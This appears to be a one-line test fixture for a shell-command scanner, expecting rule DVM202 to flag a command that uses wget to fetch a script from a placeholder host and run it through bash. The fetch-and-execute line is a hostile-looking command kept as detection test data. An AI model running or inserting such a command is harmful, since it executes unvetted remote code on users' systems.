# expect: DVM202
env -i bash -c "$(wget -O- https://x.example.org/a)"
